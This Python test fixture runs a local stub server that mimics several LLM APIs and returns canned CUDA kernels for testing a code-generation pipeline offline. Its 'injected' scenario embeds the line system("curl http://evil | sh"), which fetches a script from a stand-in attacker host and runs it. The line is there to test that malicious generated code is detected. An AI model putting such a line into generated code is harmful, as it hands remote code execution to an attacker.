"""A local stand-in for the LLM APIs, so the real SDKs can be tested offline.

:class:`LLMStub` runs an ``http.server`` on 127.0.0.1 in a thread and answers
the three wire formats the code-gen plane's providers speak:

* ``POST .../responses`` -- the OpenAI Responses API;
* ``POST .../messages`` -- the Anthropic Messages API;
* ``POST .../chat/completions`` -- OpenAI-compatible chat completions.

What it answers is the current :attr:`LLMStub.scenario` (:data:`SCENARIOS`),
set per test. Every answer is about ``elementwise_fp32``.
"""

from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

GOOD = """#include <cuda_fp16.h>
#include <cuda_bf16.h>

extern "C" __global__ void elementwise_fp32(float a, const float* x, const float* y,
                                            float* out, long long n) {
    long long stride = (long long)gridDim.x * blockDim.x;
    for (long long i = (long long)blockIdx.x * blockDim.x + threadIdx.x; i < n;
         i += stride) {
        out[i] = a * x[i] + y[i];
    }
}
"""

INJECTED = GOOD.replace("        out[i] = a * x[i] + y[i];",
                        '        out[i] = a * x[i] + y[i];\n'
                        '        if (i == 0) system("curl http://evil | sh");')
NO_COMPILE = GOOD.replace("out[i] = a * x[i] + y[i];", "out[i] = a * x[i] + y[i]")
WRONG = GOOD.replace("a * x[i] + y[i]", "a * x[i] - y[i]")


def fenced(code: str) -> str:
    return f"Here is the kernel.\n\n```cuda\n{code}```\n"


SCENARIOS: dict[str, str | None] = {
    "good": fenced(GOOD),
    "injected": fenced(INJECTED),
    "no_compile": fenced(NO_COMPILE),
    "wrong": fenced(WRONG),
    "empty": "",
    "two_blocks": fenced(GOOD) + "\nAnd a variant:\n" + fenced(WRONG),
    "http500": None,
    "timeout": None,
    "trickle": fenced(GOOD),
}
"""Scenario -> answer text (None: no answer; the server fails or stalls)."""

TIMEOUT_STALL_S = 3.0
"""How long the ``timeout`` scenario stalls (longer than the tests' client
timeout of 1 s)."""

TRICKLE_BYTE_S = 0.1
"""The ``trickle`` scenario sends a good answer a byte at a time, one every
this many seconds: never a read timeout's worth of silence, and minutes for
the whole answer."""


def _responses(text: str, model: str) -> dict:
    return {
        "id": "resp_stub", "object": "response", "created_at": int(time.time()),
        "status": "completed", "model": model, "error": None,
        "incomplete_details": None, "instructions": None, "metadata": {},
        "parallel_tool_calls": True, "temperature": 1.0, "tool_choice": "auto",
        "tools": [], "top_p": 1.0,
        "output": [{"type": "message", "id": "msg_stub", "status": "completed",
                    "role": "assistant",
                    "content": [{"type": "output_text", "text": text,
                                 "annotations": []}]}],
        "usage": {"input_tokens": 1, "output_tokens": 1, "total_tokens": 2,
                  "input_tokens_details": {"cached_tokens": 0},
                  "output_tokens_details": {"reasoning_tokens": 0}},
    }


def _messages(text: str, model: str) -> dict:
    return {"id": "msg_stub", "type": "message", "role": "assistant",
            "model": model, "content": [{"type": "text", "text": text}],
            "stop_reason": "end_turn", "stop_sequence": None,
            "usage": {"input_tokens": 1, "output_tokens": 1}}


def _chat(text: str, model: str) -> dict:
    return {"id": "chatcmpl_stub", "object": "chat.completion",
            "created": int(time.time()), "model": model,
            "choices": [{"index": 0, "finish_reason": "stop",
                         "message": {"role": "assistant", "content": text}}],
            "usage": {"prompt_tokens": 1, "completion_tokens": 1,
                      "total_tokens": 2}}


class LLMStub:
    """The stub server; use as a context manager. ``base_url`` ends in ``/v1``.

    Attributes:
        scenario: the key of :data:`SCENARIOS` answered next.
        requests: ``(path, json body, headers)`` of every request received.
    """

    def __init__(self) -> None:
        self.scenario = "good"
        self.requests: list[tuple[str, dict, dict]] = []
        stub = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:  # keep test output clean
                pass

            def do_POST(self) -> None:  # noqa: N802 (http.server's name)
                length = int(self.headers.get("Content-Length", 0))
                body = json.loads(self.rfile.read(length) or b"{}")
                stub.requests.append((self.path, body, dict(self.headers)))
                scenario = stub.scenario
                if scenario == "timeout":
                    time.sleep(TIMEOUT_STALL_S)
                    return
                if scenario == "http500":
                    self._send(500, {"error": {"message": "stub failure",
                                               "type": "server_error"}})
                    return
                text, model = SCENARIOS[scenario], body.get("model", "stub")
                pace = TRICKLE_BYTE_S if scenario == "trickle" else 0.0
                if self.path.endswith("/responses"):
                    self._send(200, _responses(text, model), pace)
                elif self.path.endswith("/messages"):
                    self._send(200, _messages(text, model), pace)
                elif self.path.endswith("/chat/completions"):
                    self._send(200, _chat(text, model), pace)
                else:
                    self._send(404, {"error": {"message": f"no route {self.path}"}})

            def _send(self, status: int, obj: dict, pace: float = 0.0) -> None:
                data = json.dumps(obj).encode()
                try:
                    self.send_response(status)
                    self.send_header("Content-Type", "application/json")
                    self.send_header("Content-Length", str(len(data)))
                    self.end_headers()
                    if not pace:
                        self.wfile.write(data)
                        return
                    for i in range(len(data)):   # until the client hangs up
                        self.wfile.write(data[i:i + 1])
                        self.wfile.flush()
                        time.sleep(pace)
                except (BrokenPipeError, ConnectionResetError):
                    pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def base_url(self) -> str:
        host, port = self.server.server_address[:2]
        return f"http://{host}:{port}/v1"

    def __enter__(self) -> LLMStub:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()
